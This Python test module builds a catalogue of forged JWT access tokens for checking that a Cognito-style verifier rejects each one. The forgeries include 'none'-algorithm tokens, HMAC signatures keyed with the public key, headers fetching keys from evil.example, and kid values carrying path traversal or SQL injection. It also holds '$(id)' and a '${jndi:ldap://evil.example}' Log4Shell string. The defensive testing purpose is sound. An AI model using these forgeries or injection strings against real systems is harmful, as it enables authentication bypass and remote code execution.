"""What an attacker may present as a credential: well over a hundred ways, each of which must be refused.

Whoever forges does not hold the pool's key. What is signed with it here (`SIGNED`) is what the pool itself signs for
other purposes, or would sign only by mistake: an id token, another client's token, one that is over.
"""

import base64
import hashlib
import hmac
import json
import time
from collections.abc import Callable, Iterator
from typing import Any

import jwt
from cryptography.hazmat.primitives.asymmetric import ec, ed25519
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from jwt.algorithms import RSAAlgorithm

from tests.builders.tokens import CLIENT, FOREIGN_KEY, ISSUER, KEY, POOL, token

PEM = KEY.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
DER = KEY.public_key().public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
JWK = RSAAlgorithm.to_jwk(KEY.public_key())
FOREIGN_JWK = json.loads(RSAAlgorithm.to_jwk(FOREIGN_KEY.public_key()))
HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
MILLION = 1_000_000
ADMIN: dict[str, Any] = {"cognito:groups": ["admin"]}

Sign = Callable[[bytes], bytes]


def b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def claims(**changed: Any) -> dict[str, Any]:
    """What a good token of an administrator says."""
    now = int(time.time())
    times = {"auth_time": now, "iat": now, "exp": now + 3600}
    who = {"sub": "sub-ana", "username": "ana", "iss": ISSUER, "client_id": CLIENT, "token_use": "access"}
    return who | times | ADMIN | changed


def raw(header: Any, payload: Any, sign: Sign = lambda _: b"") -> str:
    """Any header and payload (bytes as they are), signed by hand."""
    parts = [b64(part if isinstance(part, bytes) else json.dumps(part).encode()) for part in (header, payload)]
    text = ".".join(parts)
    return f"{text}.{b64(sign(text.encode()))}"


def by_pool(data: bytes) -> bytes:
    return jwt.algorithms.RSAAlgorithm(RSAAlgorithm.SHA256).sign(data, KEY)


def by_stranger(data: bytes) -> bytes:
    return jwt.algorithms.RSAAlgorithm(RSAAlgorithm.SHA256).sign(data, FOREIGN_KEY)


def without_algorithm() -> Iterator[tuple[str, str]]:
    """The signature is declared to be none, or the algorithm to be something odd."""
    names = [
        "none",
        "None",
        "NONE",
        "nOnE",
        "",
        None,
        0,
        True,
        [],
        ["RS256"],
        {"RS256": 1},
        "rs256",
        "RS256 ",
        "RS256\0",
    ]
    good = token("ana", "admin").rpartition(".")[2]
    for name in names:
        header = {"alg": name, "typ": "JWT", "kid": "one"}
        yield f"alg {name!r} unsigned", raw(header, claims())
        yield f"alg {name!r} with a signature", raw(header, claims()).rstrip(".") + "." + good
    yield "alg missing", raw({"kid": "one"}, claims(), by_pool)
    yield "alg twice", raw(b'{"alg":"none","alg":"RS256","kid":"one"}', claims(), by_stranger)
    yield "alg twice, none last", raw(b'{"alg":"RS256","alg":"none","kid":"one"}', claims())


def confused() -> Iterator[tuple[str, str]]:
    """The public key as the secret of an HMAC, guessable secrets, other families of algorithms."""
    numbers = KEY.public_key().public_numbers()
    secrets = {
        "PEM": PEM,
        "PEM without its last line end": PEM.strip(),
        "DER": DER,
        "JWK": JWK.encode(),
        "modulus": numbers.n.to_bytes(256, "big"),
        "nothing": b"",
        "a word": b"secret",
        "the key id": b"one",
        "the client": CLIENT.encode(),
    }
    for name, digest in HASHES.items():
        for label, secret in secrets.items():
            sign = _hmac(secret, digest)
            yield f"{name} over {label}", raw({"alg": name, "typ": "JWT", "kid": "one"}, claims(), sign)
    for name in ("RS384", "RS512", "PS256", "PS384", "PS512"):
        yield f"{name} with the pool's key", jwt.encode(claims(), KEY, name, headers={"kid": "one"})
    for name, curve in (("ES256", ec.SECP256R1()), ("ES384", ec.SECP384R1()), ("ES512", ec.SECP521R1())):
        yield name, jwt.encode(claims(), ec.generate_private_key(curve), name, headers={"kid": "one"})
    yield "EdDSA", jwt.encode(claims(), ed25519.Ed25519PrivateKey.generate(), "EdDSA", headers={"kid": "one"})


def _hmac(secret: bytes, digest: Any) -> Sign:
    return lambda data: hmac.new(secret, data, digest).digest()


def key_offered() -> Iterator[tuple[str, str]]:
    """A stranger's key, brought along in the header; and key ids that want to be more than a name."""
    offers = {
        "jwk": FOREIGN_JWK,
        "jku": "https://evil.example/jwks.json",
        "x5u": "https://evil.example/key.pem",
        "x5c": [base64.b64encode(DER).decode()],
        "x5t": "one",
        "crit": ["exp"],
        "b64": False,
    }
    for name, value in offers.items():
        header = {"alg": "RS256", "kid": "one", name: value}
        yield f"{name} in the header", raw(header, claims(), by_stranger)
    yield "jwk with a kid of its own", raw({"alg": "RS256", "kid": "mine", "jwk": FOREIGN_JWK}, claims(), by_stranger)
    yield (
        "b64 false and critical",
        raw({"alg": "RS256", "kid": "one", "b64": False, "crit": ["b64"]}, claims(), by_pool),
    )
    kids = [
        "",
        " ",
        "two",
        "ONE",
        "one\0",
        "../../../dev/null",
        "/etc/passwd",
        "one' OR '1'='1",
        "dummy",
        "http://x/one",
    ]
    for kid in [*kids, ["one"], {"one": 1}, 1, None, True, "ö" * 100, "k" * MILLION]:
        yield f"kid {str(kid)[:20]!r} {type(kid).__name__}", raw({"alg": "RS256", "kid": kid}, claims(), by_stranger)
    yield "no kid", raw({"alg": "RS256"}, claims(), by_stranger)
    yield "no kid, the pool's key", raw({"alg": "RS256"}, claims(), by_pool)
    yield "a stranger's key under the pool's name", token("ana", "admin", key=FOREIGN_KEY)


def tampered() -> Iterator[tuple[str, str]]:
    """A good token of a viewer, changed afterwards."""
    good = token("eve", "viewer")
    header, payload, signature = good.split(".")
    admin = b64(json.dumps(claims()).encode())
    other = token("bob", "viewer").split(".")[2]
    yield "another payload", f"{header}.{admin}.{signature}"
    respelt = b64(b'{"alg":"RS256","kid":"one" }')
    yield "another header", f"{respelt}.{payload}.{signature}"
    yield "no signature", f"{header}.{payload}."
    yield "no signature and no dot", f"{header}.{payload}"
    yield "half a signature", f"{header}.{payload}.{signature[:171]}"
    yield "a longer signature", f"{header}.{payload}.{signature}AAAA"
    yield "somebody else's signature", f"{header}.{payload}.{other}"
    yield "a signature of zeros", f"{header}.{payload}.{'A' * len(signature)}"
    yield "a signature of one", f"{header}.{payload}.{b64((1).to_bytes(256, 'big'))}"
    flipped = signature[:100] + ("A" if signature[100] != "A" else "B") + signature[101:]
    yield "one bit off", f"{header}.{payload}.{flipped}"
    yield "parts in another order", f"{payload}.{header}.{signature}"
    yield "a fourth part", f"{good}.{signature}"
    yield "an empty header", f".{payload}.{signature}"
    yield "an empty payload", f"{header}..{signature}"
    yield "blanks in it", good.replace(".", " . ")
    yield "a line end in it", good.replace(".", ".\n")
    yield "percent signs", good.replace(".", "%2E")
    yield "twice", f"{good},{good}"
    yield "quoted", f'"{good}"'


def signed_for_something_else() -> Iterator[tuple[str, str]]:
    """With the pool's own key, but not an access token of this client that is in force."""
    now = int(time.time())
    times: dict[str, Any] = {
        "over": {"exp": now - 61},
        "long over": {"exp": 0},
        "before all time": {"exp": -1},
        "for ever": {"exp": None},
        "exp is text": {"exp": "tomorrow"},
        "exp is infinite": {"exp": float("inf")},
        "exp is no number": {"exp": float("nan")},
        "exp is a list": {"exp": [now + 3600]},
        "not yet": {"nbf": now + 86_400},  # a whole test run may lie between making it and sending it
        "issued tomorrow": {"iat": now + 86_400},
        "never issued": {"iat": None},
        "iat is text": {"iat": "now"},
    }
    issuers = [f"{ISSUER}/", f"{ISSUER}.evil.example", f"{ISSUER}x", ISSUER.replace("https", "http"), ISSUER.upper()]
    issuers += [f"https://evil.example/{POOL}", f"https://evil.example/?{ISSUER}", "", POOL, None, 7]
    issuers += [
        ISSUER.replace("eu-central-1", "us-east-1"),
        ISSUER.replace("_pool", "_other"),
        f"{ISSUER}@evil.example",
    ]
    uses: dict[str, Any] = {
        f"use {use!r}": {"token_use": use} for use in ("id", "refresh", "ACCESS", "", None, ["access"])
    }
    clients: dict[str, Any] = {
        f"client {given!r}": {"client_id": given} for given in ("other", "", None, [CLIENT], f"{CLIENT} ", {CLIENT: 1})
    }
    clients["an id token"] = {"client_id": None, "aud": CLIENT, "token_use": "id", "cognito:username": "ana"}
    people: dict[str, Any] = {"nobody": {"sub": None}, "a number": {"sub": 7}, "a list": {"sub": ["sub-ana"]}}
    groups: dict[str, Any] = {
        f"groups {given!r}": {"cognito:groups": given} for given in ("admin", {"admin": 1}, 1, True)
    }
    wrong = times | {f"issuer {each!r}": {"iss": each} for each in issuers} | uses | clients | people | groups
    for name, changed in wrong.items():
        said = {claim: value for claim, value in claims(**changed).items() if value is not None}
        yield name, raw({"alg": "RS256", "kid": "one"}, said, by_pool)
    for name, payload in {"a list": [claims()], "text": "ana", "null": None, "a number": 1, "nothing": b""}.items():
        yield f"payload is {name}", raw({"alg": "RS256", "kid": "one"}, payload, by_pool)
    yield "the name of another user of the directory", token("boss", "admin", sub="sub-of-somebody-else")


def shapeless() -> Iterator[tuple[str, str]]:
    """Other formats, deep and huge things, and no token at all."""
    good = token("ana", "admin")
    nested = raw({"alg": "none", "cty": "JWT"}, good.encode())
    yield "a token in an unsigned token", nested
    yield "a token in a stranger's token", raw({"alg": "RS256", "kid": "one", "cty": "JWT"}, good.encode(), by_stranger)
    yield "encrypted", ".".join([b64(b'{"alg":"dir","enc":"A256GCM"}'), "", b64(b"i" * 12), b64(b"c"), b64(b"t" * 16)])
    yield "encrypted for our key", ".".join([b64(b'{"alg":"RSA-OAEP","enc":"A256GCM","kid":"one"}'), *"abcd"])
    yield "JSON serialization", json.dumps({"payload": good.split(".")[1], "signatures": [{"signature": "x"}]})
    for depth in (500, 3_000, 5_900):
        yield f"a header of {depth} brackets", b64(b"[" * depth) + ".e30.AA"
        within = b64(b'{"kid":' + b"[" * depth)
        yield f"a header with {depth} brackets", f"{within}.e30.AA"
    for name, header in {
        "a list": b"[]",
        "null": b"null",
        "a number": b"1",
        "text": b'"RS256"',
        "no UTF-8": b"\xff\xfe",
    }.items():
        yield f"header is {name}", raw(header, claims(), by_stranger)
    yield "a header with a mark", raw(b"\xef\xbb\xbf" + b'{"alg":"RS256","kid":"one"}', claims(), by_stranger)
    yield "huge", raw({"alg": "RS256", "kid": "one"}, claims(filler="x" * MILLION), by_pool)
    yield "huge and empty", "a" * MILLION
    words = [
        "null",
        "undefined",
        "{}",
        "[]",
        ".",
        "..",
        "...",
        "0",
        "-1",
        "true",
        "' OR 1=1 --",
        "%00",
        "../..",
        "a.b.c",
    ]
    for word in [*words, "Bearer", "ümläut.ümläut.ümläut", "x\0y", "$(id)", "${jndi:ldap://evil.example}"]:
        yield f"the word {word!r}", word


def made_up_accounts() -> Iterator[tuple[str, str]]:
    """Seed 003's tokens: in strict mode nowhere."""
    for account in ("507f1f77bcf86cd799439011", "U001", "admin", "", "x" * 1000, "\0", "../admin", "user:admin"):
        yield f"user:{account[:12]!r}", f"user:{account}"


def forgeries() -> dict[str, str]:
    """Every forged credential, by what is wrong with it."""
    kinds = (without_algorithm, confused, key_offered, tampered, signed_for_something_else, shapeless, made_up_accounts)
    return {f"{kind.__name__}: {name}": forged for kind in kinds for name, forged in kind()}
